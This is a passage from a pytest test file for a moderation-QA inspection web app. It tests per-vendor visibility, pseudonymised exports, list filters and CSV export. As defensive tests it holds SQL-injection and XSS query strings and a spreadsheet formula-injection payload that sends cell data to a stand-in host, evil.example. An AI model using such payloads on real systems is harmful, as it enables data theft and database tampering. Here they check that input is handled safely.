    sources = re.findall(r"<tr> <td>(\d+)</td> <td>(\w+)", history)
    assert [source for _, source in sources] == ["finalise", "correction"]
    assert reason in history
    assert inspector.pseudonym in history and lead.pseudonym in history
    for secret in (inspector.name, inspector.email, lead.name, lead.email):
        assert secret not in doc
    # The sample is still open: not shown to the vendor.
    assert f"/sampling/{ref(world['sample'])}" not in doc


@pytest.mark.parametrize("role", ["vendor_lead", "vendor_viewer"])
def test_the_vendor_export_holds_own_finals_with_pseudonyms(
    client, login_as, world, published, role
):
    login_as(role, vendor=world["vendor"])
    response = client.get("/inspections/export.csv")
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
    assert {int(r["inspection_id"]) for r in rows} == {ref(i) for i in published["finals"]}
    assert {r["inspector"] for r in rows} == {world["inspector"].pseudonym}
    assert world["inspector"].email not in body and world["inspector"].name not in body
    assert "GLOBEX" not in body


def test_qa_see_drafts_names_and_every_vendor(client, login_as, world, published):
    login_as("qa_inspector")
    response = client.get("/inspections/")
    everything = {i.id for i in published["finals"]} | {
        published["draft"].id,
        published["theirs"].id,
    }
    assert listed_ids(response) == everything
    page = _text(response)
    assert "Ines Inspector" in page
    headers = re.findall(r'<th scope="col"[^>]*>([^<]+)</th>', page)
    assert "Vendor" in headers and "Status" in headers
    assert client.get(f"/inspections/{ref(published['draft'])}").status_code == 200


# Filters of the list ----------------------------------------------------------------------------


@module_world(on=world)
def many(world):
    """A spread of ACME inspections to filter, and GLOBEX's, in March and April 2026."""
    vendor, other = world["vendor"], world["other"]
    fake, prohib, copy = world["labels"]
    inspector = world["inspector"]
    seller_label = world["seller_label"]
    inspections.scorecard("seller")
    lead = UserFactory(role="qa_lead")
    march = datetime(2026, 3, 20, 10, 0, tzinfo=UTC)
    april = datetime(2026, 4, 2, 10, 0, tzinfo=UTC)

    def make(v, *, labels=(), sample="contract", when=march, area="listing", **kw):
        kw.setdefault("market", "PH")
        kw.setdefault("site", "Cebu")
        return inspections.decision(
            v, labels=list(labels), decided=when, policy_area=area, **kw
        ), sample

    rows = {
        "correct_reject": make(vendor, labels=[fake], moderator_id="MOD-A"),
        "correct_approve": make(vendor, moderator_id="MOD-A", market="US", site="Manila"),
        "false_negative": make(vendor, moderator_id="MOD-B"),
        "false_positive": make(vendor, labels=[prohib], moderator_id="MOD-B", site="Manila"),
        "labels_wrong": make(vendor, labels=[copy], moderator_id="MOD-C", market="US"),
        "critical": make(vendor, labels=[fake, copy], moderator_id="MOD-C"),
        "targeted": make(vendor, labels=[prohib], sample="targeted", moderator_id="MOD-A"),
        "april": make(vendor, moderator_id="MOD-A", when=april),
        "seller": make(vendor, labels=[seller_label], area="seller", moderator_id="MOD-S"),
        "draft": make(vendor, labels=[fake], moderator_id="MOD-A"),
        "globex": make(other, moderator_id="MOD-A"),
    }
    for v in (vendor, other):
        for purpose in ("contract", "targeted"):
            chosen = [d for d, s in rows.values() if d.vendor_id == v.id and s == purpose]
            if chosen:
                inspections.sample_of(v, chosen, purpose=purpose)
    verdicts = {
        "correct_reject": {},
        "correct_approve": {},
        "false_negative": {"expected": "reject", "expected_labels": ["LST-PROHIB"]},
        "false_positive": {"expected": "approve"},
        "labels_wrong": {
            "expected": "reject",
            "expected_labels": ["LST-FAKE"],
            "severity": "minor",
        },
        "critical": {
            "expected": "reject",
            "expected_labels": ["LST-PROHIB"],
            "severity": "critical",
        },
        "targeted": {"expected": "approve"},
        "april": {},
        "seller": {},
        "draft": {"finalise": False},
        "globex": {},
    }
    made = {name: inspections.inspect(rows[name][0], inspector, **verdicts[name]) for name in rows}
    db.session.commit()
    return {**made, "lead": lead}


FILTERS = [
    ("vendor=ACME", lambda n: n != "globex"),
    ("vendor=globex", lambda n: n == "globex"),
    ("month=2026-04", lambda n: n == "april"),
    ("month=2026-03&vendor=ACME", lambda n: n not in ("april", "globex")),
    ("status=draft", lambda n: n == "draft"),
    ("status=final", lambda n: n != "draft"),
    ("purpose=targeted", lambda n: n == "targeted"),
    ("purpose=contract", lambda n: n != "targeted"),
    ("policy_area=seller", lambda n: n == "seller"),
    ("market=US", lambda n: n in ("correct_approve", "labels_wrong")),
    ("site=Manila", lambda n: n in ("correct_approve", "false_positive")),
    ("moderator=MOD-B", lambda n: n in ("false_negative", "false_positive")),
    (
        "moderator=MOD-A&vendor=ACME&status=final&purpose=contract",
        lambda n: n in ("correct_reject", "correct_approve", "april"),
    ),
    (
        "outcome=incorrect",
        lambda n: n in ("false_negative", "false_positive", "labels_wrong", "critical", "targeted"),
    ),
    (
        "outcome=correct",
        lambda n: n in ("correct_reject", "correct_approve", "april", "seller", "draft", "globex"),
    ),
    ("outcome=false_negative", lambda n: n == "false_negative"),
    ("outcome=false_positive", lambda n: n in ("false_positive", "targeted")),
    ("outcome=critical", lambda n: n == "critical"),
    ("outcome=labels_wrong", lambda n: n in ("labels_wrong", "critical")),
    ("outcome=decision_wrong", lambda n: n in ("false_negative", "false_positive", "targeted")),
    ("severity=minor", lambda n: n == "labels_wrong"),
    ("applied=approve", lambda n: n in ("correct_approve", "false_negative", "april", "globex")),
    ("applied=LST-FAKE", lambda n: n in ("correct_reject", "critical", "draft")),
    ("applied=lst-copy", lambda n: n == "labels_wrong"),
    (
        "expected=approve",
        lambda n: n in ("correct_approve", "false_positive", "targeted", "april", "globex"),
    ),
    ("expected=LST-PROHIB", lambda n: n in ("false_negative", "critical")),
    ("applied=LST-COPY&expected=LST-FAKE", lambda n: n == "labels_wrong"),
    (
        "purpose=contract&outcome=incorrect&month=2026-03&vendor=ACME&status=final",
        lambda n: n in ("false_negative", "false_positive", "labels_wrong", "critical"),
    ),
]


@pytest.mark.parametrize(("query", "expected"), FILTERS, ids=[q for q, _ in FILTERS])
def test_each_filter_narrows_the_list(client, login_as, many, query, expected):
    login_as("qa_lead")
    response = client.get(f"/inspections/?{query}")
    assert response.status_code == 200
    wanted = {i.id for name, i in many.items() if name != "lead" and expected(name)}
    assert wanted, "the filter must select something to be a test"
    assert listed_ids(response) == wanted


def test_the_inspector_filter(client, login_as, world, many):
    login_as("qa_lead")
    response = client.get(f"/inspections/?inspector={world['inspector'].id}")
    assert listed_ids(response) == {i.id for n, i in many.items() if n != "lead"}
    response = client.get(f"/inspections/?inspector={many['lead'].id}")
    assert response.status_code == 200 and listed_ids(response) == set()


def test_a_bad_month_is_an_error_on_the_page(client, login_as, many):
    login_as("qa_lead")
    for month in ("March", "2026-13", "2026-3", "26-03"):
        response = client.get(f"/inspections/?month={month}")
        assert response.status_code == 400, month
        assert "Give the month as YYYY-MM." in _text(response)
        assert listed_ids(response) == set()
        export = client.get(f"/inspections/export.csv?month={month}")
        assert export.status_code == 400
        assert "Give the month as YYYY-MM." in export.get_data(as_text=True)


@pytest.mark.parametrize(
    "query",
    [
        "month=0000-01",
        "month=2026-03%00",
        "status=%27%20OR%201%3D1",
        "outcome=everything",
        "policy_area=<script>alert(1)</script>",
        "inspector=abc",
        "inspector=-1",
        "inspector=99999999999999999999",
        "inspector=9999999999",
        "sort=id;DROP TABLE inspections",
        "page=-5",
        "page=abc",
        "page=99999999999999999999",
        "q=%25_%5C",
        "q=" + "x" * 5000,
        "moderator=%00%01",
        "market=%F0%9F%92%A9",
        "applied=%27",
        "expected=%00",
        "vendor=%00",
        "vendor=" + "V" * 500,
        "vendor=ACME&vendor=GLOBEX",
        "month=2026-03&month=nonsense",
        "severity=none&severity=critical",
    ],
)
@pytest.mark.parametrize("page", ["/inspections/", "/inspections/export.csv"])
def test_hostile_query_strings_never_fail_the_server(client, login_as, many, page, query):
    login_as("qa_lead")
    response = client.get(f"{page}?{query}")
    assert response.status_code in (200, 400, 404), response.status_code


@pytest.mark.parametrize("page", ["/inspections/", "/inspections/export.csv"])
@pytest.mark.parametrize("query", ["month=0000-01", "inspector=5", "vendor=%00", "q=%25"])
def test_hostile_query_strings_from_a_vendor_user_never_fail(
    client, login_as, world, many, page, query
):
    login_as("vendor_viewer", vendor=world["vendor"])
    response = client.get(f"{page}?{query}")
    assert response.status_code in (200, 400, 404), response.status_code


# The CSV export -------------------------------------------------------------------------------


def test_the_export_has_the_filtered_rows_and_neutralises_formulas(client, login_as, world):
    d0, d1, d2 = world["decisions"]
    inspector = world["inspector"]
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    inspections.inspect(d0, inspector, notes=hostile)
    inspections.inspect(
        d1, inspector, notes="+SUM(1+1)", expected="reject", expected_labels=["LST-COPY"]
    )
    inspections.inspect(d2, inspector, notes="@cmd", finalise=False)
    formula_moderator = inspections.decision(world["vendor"], moderator_id="-2+3")
    inspections.sample_of(world["vendor"], [formula_moderator])
    inspections.inspect(formula_moderator, inspector, notes="plain words")
    db.session.commit()
    login_as("qa_lead")

    response = client.get("/inspections/export.csv?vendor=ACME&month=2026-03&status=final")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert "inspections-acme-2026-03.csv" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    by_decision = {r["decision"]: r for r in rows}
    assert set(by_decision) == {d0.external_id, d1.external_id, formula_moderator.external_id}
    assert by_decision[d0.external_id]["notes"] == "'" + hostile
    assert by_decision[d1.external_id]["notes"] == "'+SUM(1+1)"
    assert by_decision[formula_moderator.external_id]["moderator_id"] == "'-2+3"
    assert by_decision[formula_moderator.external_id]["notes"] == "plain words"
    row = by_decision[d1.external_id]
    assert (row["expected_decision"], row["expected_labels"], row["correct"]) == (
        "reject",
        "LST-COPY",
        "no",
    )
    assert row["inspector"] == inspector.email and row["status"] == "final"
    assert by_decision[d0.external_id]["labels"] == "LST-FAKE|LST-PROHIB"

    drafts = client.get("/inspections/export.csv?status=draft")
    rows = list(csv.DictReader(io.StringIO(drafts.get_data(as_text=True).lstrip("\ufeff"))))
    assert [r["decision"] for r in rows] == [d2.external_id]
    assert rows[0]["notes"] == "'@cmd"


def test_the_list_links_to_the_export_with_its_filters(client, login_as, many):
    login_as("qa_lead")
    page = client.get("/inspections/?vendor=ACME&outcome=critical").get_data(as_text=True)
    link = re.search(r'href="(/inspections/export\.csv\?[^"]+)"', page)
    assert link is not None
    url = link.group(1).replace("&amp;", "&")
    assert "vendor=ACME" in url and "outcome=critical" in url
    rows = list(
        csv.DictReader(io.StringIO(client.get(url).get_data(as_text=True).lstrip("\ufeff")))
    )
    assert [int(r["inspection_id"]) for r in rows] == [ref(many["critical"])]
